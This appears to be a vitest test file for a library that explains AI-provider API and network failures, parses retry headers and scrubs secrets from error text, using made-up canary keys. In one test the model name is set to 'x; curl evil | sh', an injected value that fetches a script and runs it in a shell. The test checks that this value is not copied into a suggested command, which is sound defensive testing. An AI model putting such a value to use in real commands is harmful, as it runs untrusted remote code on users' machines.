import { readdirSync, readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import {
  explainFailure,
  explainNetworkError,
  type Failure,
  type FailureInput,
  parseRetryAfter,
  refusedTokenParameter,
  scrub,
} from "../../src/failures/index.js";
import type { FailureDialect } from "../../src/generated/manifest.js";

interface Case {
  readonly name: string;
  /** As in the reference: documentation, source, issue report, own knowledge. */
  readonly confidence: "D" | "S" | "I" | "K";
  readonly step: string;
  readonly status: number | null;
  readonly headers: Readonly<Record<string, string>>;
  readonly body?: unknown;
  readonly text?: string;
  readonly context: Readonly<Record<string, string>>;
  readonly now?: string;
  readonly expect: Partial<Failure>;
}

const FOLDER = new URL("../../fixtures/failures/", import.meta.url);
const DIALECTS: readonly FailureDialect[] = [
  "openai",
  "anthropic",
  "aws",
  "azure",
  "google",
  "ollama",
  "lmstudio",
  "openrouter",
  "copilot",
  "snowflake",
  "databricks",
  "generic",
];

function casesOf(dialect: string): readonly Case[] {
  return JSON.parse(readFileSync(new URL(`${dialect}.json`, FOLDER), "utf8"));
}

const cases = DIALECTS.flatMap((dialect) =>
  casesOf(dialect).map((one) => ({ ...one, dialect, title: `${dialect}: ${one.name}` })),
);

function inputOf(one: Case & { dialect: FailureDialect }, body = one.body ?? null): FailureInput {
  return {
    dialect: one.dialect,
    step: one.step,
    status: one.status,
    headers: one.headers,
    body,
    text: one.text ?? JSON.stringify(body),
    context: one.context,
    ...(one.now === undefined ? {} : { nowMs: Date.parse(one.now) }),
  };
}

describe("explainFailure", () => {
  it("has a fixture file for every dialect and none besides", () => {
    expect(readdirSync(FOLDER).sort()).toEqual(DIALECTS.map((name) => `${name}.json`).sort());
    expect(cases.length).toBeGreaterThan(170);
    expect(new Set(cases.map((one) => one.title)).size).toBe(cases.length);
  });

  it.each(cases)("$title", (one) => {
    const failure = explainFailure(inputOf(one));
    expect(failure).toMatchObject(one.expect);
    // What is not known from documentation or source must say so.
    const soft = one.confidence === "K" || one.confidence === "I";
    expect(failure.unconfirmed, "unconfirmed").toBe(soft);
  });

  it.each(cases)("$title: reads as plain words with one remedy", (one) => {
    const { message, hint, retryable, retryAfterMs } = explainFailure(inputOf(one));
    for (const text of [message, hint ?? "Fine."]) {
      expect(text).not.toMatch(/\{(?!env:)|undefined|null|\s\s/);
      expect(text).toMatch(/^\S.*[.;)]$/);
    }
    expect(message.length).toBeLessThan(160);
    expect(message).toMatch(/^["A-Za-z{]/);
    if (!retryable) expect(retryAfterMs).toBeNull();
  });

  it("puts provider, model, region and credential into the words", () => {
    const failure = explainFailure({
      dialect: "aws",
      step: "chat",
      status: 400,
      headers: { "x-amzn-errortype": "ValidationException" },
      body: { message: "The provided model identifier is invalid." },
      text: "",
      context: { provider: "amazon-bedrock", model: "eu.nope", region: "us-east-1" },
    });
    expect(failure.message).toContain('"eu.nope"');
    expect(failure.message).toContain("us-east-1");
  });

  it("speaks without any context", () => {
    const failure = explainFailure({
      dialect: "openai",
      step: "list",
      status: 401,
      headers: {},
      body: null,
      text: "",
    });
    expect(failure.message).toBe(
      "The provider does not accept the credential: the key is wrong or was revoked.",
    );
    expect(failure.detail).toBeNull();
  });

  it("lets no control character of a config through", () => {
    const failure = explainFailure({
      dialect: "openai",
      step: "chat",
      status: 404,
      headers: {},
      body: { error: { message: "The model does not exist", code: "model_not_found" } },
      text: "",
      context: { model: "gpt\u001b[31m\u202e-5\nx" },
    });
    expect(failure.message).toContain('"gpt[31m-5x"');
  });

  it("puts into a command to copy only what is a plain name", () => {
    const hintFor = (model: string) =>
      explainFailure({
        dialect: "ollama",
        step: "model",
        status: 404,
        headers: {},
        body: { error: "model not found" },
        text: "",
        context: { model },
      }).hint;
    expect(hintFor("hf.co/org/llama3.2:1b-q4_K_M")).toContain(
      "`ollama pull hf.co/org/llama3.2:1b-q4_K_M`",
    );
    expect(hintFor("x; curl evil | sh")).toContain("`ollama pull MODEL`");
  });

  it("never calls a key bad for a 5xx, an unknown status or a strange body", () => {
    for (const dialect of DIALECTS) {
      for (const status of [500, 502, 503, 504, 520, 529, 599, 418, 451, 200]) {
        for (const text of ["", "oops", '{"a":1}', "<html></html>", '["x"]', "42"]) {
          const body = /^[{["\d]/.test(text) ? JSON.parse(text) : null;
          const failure = explainFailure({
            dialect,
            step: "list",
            status,
            headers: {},
            body,
            text,
          });
          expect(["invalid_key", "expired", "missing_credential"]).not.toContain(failure.reason);
          if (status >= 500) expect(failure.state).toBe("unproven");
        }
      }
    }
  });

  it("survives bodies of any shape", () => {
    const bodies = [
      null,
      0,
      "",
      [],
      [null],
      { error: null },
      { error: [] },
      { error: { details: 1 } },
    ];
    for (const body of [
      ...bodies,
      { errors: "x", detail: [1], base_resp: 3 },
      { error: { code: {} } },
    ]) {
      for (const dialect of DIALECTS) {
        const input = { dialect, step: "chat", status: 400, headers: {}, body, text: "" } as const;
        expect(explainFailure(input).message).not.toBe("");
      }
    }
  });
});

describe("secrets in foreign texts", () => {
  // Made up, in the form of each vendor.
  const canaries = [
    "sk-proj-CANARY0abcDEF123ghiJKL456mnoPQR789",
    "sk-ant-api03-CANARY-0abcDEF_123ghiJKL456-AA",
    "sk-or-v1-0123456789abcdef0123456789abcdef",
    `dapi${"0123456789abcdef".repeat(2)}`,
    "AIzaSyCANARY0abcDEF123ghiJKL456mnoPQR78",
    "AKIACANARY0123456789",
    "ABSKQmVkcm9ja0FQSUtleS1DQU5BUlk=",
    "gho_CANARY0abcDEF123ghiJKL456mnoPQR789",
    "github_pat_CANARY0abcDEF_123ghiJKL456mnoPQR789",
    "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjYW5hcnkifQ.c2lnbmF0dXJlLWNhbmFyeQ",
    "gsk_CANARY0abcDEF123ghiJKL",
    "hf_CANARYabcdefghijklmnop",
    "nvapi-CANARY-0abcDEF123ghiJKL",
    "xai-CANARY0abcDEF123ghiJKL456",
    "ya29.CANARY-0abcDEF_123",
    "0123456789abcdef0123456789abcdef",
    "CANARY0abcDEF123ghiJKL456mnoPQR789stuVWX012yz0123456789AbCdEfGhIjKlMnOpQr",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCANARYEXAMPLEKEY1",
    "canary@example.com",
    "203.0.113.77",
    "2001:db8:85a3::8a2e:370:7334",
    "8c1d5fa0-1111-2222-3333-444455556666",
    "arn:aws:iam::210987654321:user/canary",
    "https://canary:hunter2@proxy.example/x",
  ];

  function inject(value: unknown, canary: string): unknown {
    if (typeof value === "string")
      return value.includes(" ") ? `${canary} ${value} ${canary}.` : value;
    if (Array.isArray(value)) return value.map((one) => inject(one, canary));
    if (typeof value !== "object" || value === null) return value;
    return Object.fromEntries(
      Object.entries(value).map(([key, one]) => [key, inject(one, canary)]),
    );
  }

  it.each(cases)("$title: shows no canary", (one) => {
    for (const canary of canaries) {
      const text = one.text === undefined ? undefined : `${one.text} ${canary}`;
      const input = inputOf(
        { ...one, ...(text === undefined ? {} : { text }) },
        inject(one.body ?? null, canary),
      );
      expect(JSON.stringify(explainFailure(input))).not.toContain(canary);
    }
  });

  it.each(canaries)("takes %s out of a sentence", (canary) => {
    for (const sentence of [`Bad ${canary}, sorry`, `"${canary}"`, `x=${canary}`, `(${canary})`]) {
      expect(scrub(sentence)).not.toContain(canary);
    }
  });

  it.each([
    ["Incorrect API key provided: hello-there.", "Incorrect API key provided: [hidden]"],
    ["Authorization: Bearer abcdef-123", "Authorization: [hidden] [hidden]"],
    ["see https://host/path?token=abc&x=1 now", "see https://host/path?[hidden] now"],
    ["ftp://me:pw@host/file", "ftp://[hidden]@host/file"],
    ["User 'BOB SMITH' of account \"XY12345\"", "User [hidden] of account [hidden]"],
    ["\u001b[31mred\u001b[0m\u0007\n\u202etxet", "red txet"],
    ["calls on behalf of user alice.b", "calls on behalf of user [hidden]"],
    ["in organization org-abc123XYZ on tokens", "in organization [hidden] on tokens"],
    ["blocked for workspace: 1234567890", "blocked for workspace: [hidden]"],
    ["projects/my-project/locations/us-central1", "projects/[hidden]/locations/us-central1"],
    ["sk-qVL45***************Ab3d", "[hidden]"],
  ])("scrubs %j", (dirty, clean) => {
    expect(scrub(dirty)).toBe(clean);
  });

  it.each([
    "The model `claude-sonnet-4-5-20250929` does not exist.",
    "anthropic.claude-haiku-4-5-20251001-v1:0 is not served in ap-southeast-2",
    "models/gemini-2.5-flash-preview-09-2025 is not found for API version v1beta",
    "Invalid URL (POST /v1/chat/completions)",
    "enable cross region inference with AWS_APJ, AZURE_EU, ANY_REGION",
    "key_model_access_denied at 12:30:45",
    "Missing scopes: api.model.read",
    "Asia and Pacific, max_tokens: 4096",
  ])("leaves %j alone", (text) => {
    expect(scrub(text)).toBe(text);
  });

  it("cuts long texts after scrubbing, so that no half of a key is left", () => {
    const message = `${"word ".repeat(38)}sk-proj-CANARY0abcDEF123ghiJKL456`;
    const failure = explainFailure({
      dialect: "openai",
      step: "chat",
      status: 400,
      headers: {},
      body: { error: { message } },
      text: "",
    });
    expect(failure.detail).not.toContain("CANARY");
    expect(failure.detail?.length).toBeLessThanOrEqual(200);
  });
});

describe("parseRetryAfter", () => {
  const now = Date.parse("2026-11-22T10:00:00Z");
  const retryInfo = (retryDelay: string) => ({ error: { details: [{ retryDelay }] } });
  it.each<[string, Record<string, string>, unknown, number | null]>([
    ["seconds", { "retry-after": "7" }, null, 7000],
    ["fraction of a second", { "retry-after": "0.5" }, null, 500],
    ["HTTP date", { "retry-after": "Sun, 22 Nov 2026 10:00:30 GMT" }, null, 30_000],
    ["HTTP date in the past", { "retry-after": "Sun, 22 Nov 2026 09:00:00 GMT" }, null, 0],
    ["nonsense", { "retry-after": "soon" }, null, null],
    ["milliseconds win", { "retry-after-ms": "1500", "retry-after": "2" }, null, 1500],
    ["Azure's milliseconds", { "x-ms-retry-after-ms": "250" }, null, 250],
    ["Go duration", { "x-ratelimit-reset-requests": "6m0s" }, null, 360_000],
    ["Go milliseconds", { "x-ratelimit-reset-tokens": "120ms" }, null, 120],
    ["Go hours and fractions", { "x-ratelimit-reset-tokens": "1h2m3.5s" }, null, 3_723_500],
    ["plain seconds", { "x-ratelimit-reset-tokens": "12" }, null, 12_000],
    [
      "longest window",
      { "x-ratelimit-reset-tokens": "3s", "x-ratelimit-reset-requests": "9s" },
      null,
      9000,
    ],
    [
      "used-up window",
      {
        "x-ratelimit-reset-tokens": "3s",
        "x-ratelimit-remaining-tokens": "0",
        "x-ratelimit-reset-requests": "9s",
      },
      null,
      3000,
    ],
    ["RFC 3339", { "anthropic-ratelimit-tokens-reset": "2026-11-22T10:00:05Z" }, null, 5000],
    ["epoch in ms", { "x-ratelimit-reset": String(now + 4000) }, null, 4000],
    ["epoch in s", { "x-ratelimit-reset": String(now / 1000 + 60) }, null, 60_000],
    ["Google's delay", {}, retryInfo("34.07s"), 34_070],
    ["Google's delay in an array", {}, [retryInfo("2s")], 2000],
    [
      "OpenRouter's header in the body",
      {},
      { error: { metadata: { headers: { "X-RateLimit-Reset": String(now + 1000) } } } },
      1000,
    ],
    ["nothing", {}, null, null],
    ["negative", { "retry-after": "-5" }, null, null],
  ])("%s", (_name, headers, body, expected) => {
    expect(parseRetryAfter(headers, body, now)).toBe(expected);
  });
});

describe("explainNetworkError", () => {
  const coded = (code: string, message = code) => Object.assign(new Error(message), { code });
  it.each<[string, Failure["state"], Failure["reason"]]>([
    ["ENOTFOUND", "failed", "host_unreachable"],
    ["EAI_AGAIN", "unproven", "host_unreachable"],
    ["ECONNREFUSED", "failed", "host_unreachable"],
    ["EHOSTUNREACH", "failed", "host_unreachable"],
    ["ENETUNREACH", "failed", "host_unreachable"],
    ["ECONNRESET", "unproven", "host_unreachable"],
    ["UND_ERR_SOCKET", "unproven", "host_unreachable"],
    ["ETIMEDOUT", "unproven", "host_unreachable"],
    ["UND_ERR_CONNECT_TIMEOUT", "unproven", "host_unreachable"],
    ["UND_ERR_HEADERS_TIMEOUT", "unproven", "host_unreachable"],
    ["UND_ERR_BODY_TIMEOUT", "unproven", "host_unreachable"],
    ["DEPTH_ZERO_SELF_SIGNED_CERT", "failed", "tls_error"],
    ["SELF_SIGNED_CERT_IN_CHAIN", "failed", "tls_error"],
    ["UNABLE_TO_VERIFY_LEAF_SIGNATURE", "failed", "tls_error"],
    ["UNABLE_TO_GET_ISSUER_CERT_LOCALLY", "failed", "tls_error"],
    ["CERT_HAS_EXPIRED", "failed", "tls_error"],
    ["CERT_NOT_YET_VALID", "failed", "tls_error"],
    ["ERR_TLS_CERT_ALTNAME_INVALID", "failed", "tls_error"],
    ["ERR_SSL_WRONG_VERSION_NUMBER", "failed", "tls_error"],
    ["ERR_SSL_TLSV1_ALERT_PROTOCOL_VERSION", "failed", "tls_error"],
    ["EPROTO", "failed", "tls_error"],
    ["HPE_INVALID_CONSTANT", "failed", "bad_base_url"],
    ["Z_BUF_ERROR", "unproven", "unexpected_response"],
    ["UND_ERR_RES_EXCEEDED_MAX_SIZE", "unproven", "unexpected_response"],
    ["SOMETHING_NEW", "unproven", "host_unreachable"],
  ])("%s is %s, %s", (code, state, reason) => {
    const failure = explainNetworkError(coded(code), { host: "api.example.com" });
    expect(failure).toMatchObject({ state, reason, provesCredential: false, detail: null });
    expect(failure.message).toContain("api.example.com");
  });

  it("finds the code under fetch's and happy eyeballs' wrappings", () => {
    const refused = coded("ECONNREFUSED");
    const wrapped = new TypeError("fetch failed", {
      cause: new AggregateError([refused, refused]),
    });
    expect(explainNetworkError(wrapped, {}).message).toContain("connection refused");
    const loop = coded("ENOTFOUND");
    loop.cause = loop;
    expect(explainNetworkError(loop, {}).reason).toBe("host_unreachable");
    expect(explainNetworkError("what?", {}).state).toBe("unproven");
  });

  it("names timeouts and cancellations by their DOM names", () => {
    const timeout = new DOMException("The operation timed out", "TimeoutError");
    expect(explainNetworkError(timeout, { host: "h" }).message).toBe("h did not answer in time.");
  });

  it.each<[FailureDialect, string, string, RegExp]>([
    ["ollama", "ECONNREFUSED", "localhost:11434", /ollama serve/],
    ["lmstudio", "ECONNREFUSED", "localhost:1234", /lms server start/],
    ["aws", "ENOTFOUND", "bedrock.eu-wst-1.amazonaws.com", /region/],
    ["azure", "ENOTFOUND", "my-resorce.openai.azure.com", /resource name/],
    ["google", "ENOTFOUND", "mars-east1-aiplatform.googleapis.com", /location/],
    ["databricks", "ENOTFOUND", "dbc-x.cloud.databricks.com", /workspace/],
  ])("%s %s has its own remedy", (dialect, code, host, remedy) => {
    const failure = explainNetworkError(coded(code), { dialect, host, region: "eu-wst-1" });
    expect(failure).toMatchObject({ state: "failed", reason: "host_unreachable" });
    expect(failure.hint).toMatch(remedy);
  });

  it("waits for a local model that loads slowly", () => {
    for (const dialect of ["ollama", "lmstudio"] as const) {
      const failure = explainNetworkError(coded("UND_ERR_HEADERS_TIMEOUT"), { dialect });
      expect(failure).toMatchObject({ state: "unproven", reason: "not_ready", retryable: true });
    }
  });

  it("blames the proxy, not the host, behind a proxy", () => {
    const context = { host: "api.example.com", proxy: "proxy.example:3128" };
    const asks = coded("UND_ERR_ABORTED", "Proxy response (407) !== 200 when HTTP Tunneling");
    expect(explainNetworkError(asks, context)).toMatchObject({
      state: "failed",
      reason: "proxy_error",
    });
    expect(explainNetworkError(asks, context).hint).toContain("HTTPS_PROXY");
    const denies = coded("UND_ERR_ABORTED", "Proxy response (403) !== 200 when HTTP Tunneling");
    expect(explainNetworkError(denies, context).reason).toBe("proxy_error");
    for (const dialect of DIALECTS) {
      const refused = explainNetworkError(coded("ECONNREFUSED"), { ...context, dialect });
      expect(refused.reason).toBe("proxy_error");
    }
    expect(explainNetworkError(coded("ECONNRESET"), context).reason).toBe("host_unreachable");
  });

  it.each<[FailureDialect, string, Failure["reason"], RegExp]>([
    [
      "google",
      "Could not load the default credentials. Browse to …",
      "missing_credential",
      /gcloud/,
    ],
    ["aws", "Could not load credentials from any providers", "missing_credential", /AWS_PROFILE/],
    [
      "aws",
      "The SSO session associated with this profile has expired.",
      "expired",
      /aws sso login/,
    ],
    ["azure", "ChainedTokenCredential authentication failed.", "missing_credential", /az login/],
  ])("%s: a chain without credentials", (dialect, message, reason, remedy) => {
    const failure = explainNetworkError(new Error(message), { dialect, step: "token" });
    expect(failure).toMatchObject({ state: "failed", reason });
    expect(failure.hint).toMatch(remedy);
  });
});

describe("the cross-region statement", () => {
  it("is the hint of a refusal, with the scopes and where data then goes", () => {
    const input = {
      dialect: "snowflake",
      step: "chat",
      status: 400,
      headers: {},
      body: {
        message:
          "… unavailable in your region. … enable cross region inference with AWS_EU, AWS_US. …",
      },
      text: "",
    } as const;
    const alone = explainFailure({ ...input, context: { region: "AWS_EU_WEST_1" } });
    expect(alone.scopes).toEqual(["AWS_EU", "AWS_US"]);
    expect(alone.hint).toBe(
      "Ask an ACCOUNTADMIN: ALTER ACCOUNT SET CORTEX_ENABLED_CROSS_REGION = 'AWS_EU'; " +
        "Prompts may then be processed by AWS in the European Union. " +
        "It replaces the value set now, if there is one.",
    );
    const context = { region: "AWS_AP_SOUTHEAST_3", crossRegion: ["AWS_APJ"] };
    const union = explainFailure({ ...input, context });
    expect(union.hint).toContain("= 'AWS_APJ,AWS_EU';");
    expect(union.hint).not.toContain("replaces");
  });
});

describe("refusedTokenParameter", () => {
  const answer = (status: number, message: string) => ({
    status,
    headers: {},
    body: { error: { message } },
    text: "",
  });
  it.each([
    [400, "Unsupported parameter: 'max_tokens' is not supported with this model.", "max_tokens"],
    [400, "max_output_tokens: must be at least 16", "max_output_tokens"],
    [422, "max_completion_tokens is unknown", "max_completion_tokens"],
    [400, "temperature is too high", null],
    [500, "max_tokens", null],
  ])("%s %s", (status, message, expected) => {
    expect(refusedTokenParameter(answer(status, message))).toBe(expected);
  });
});
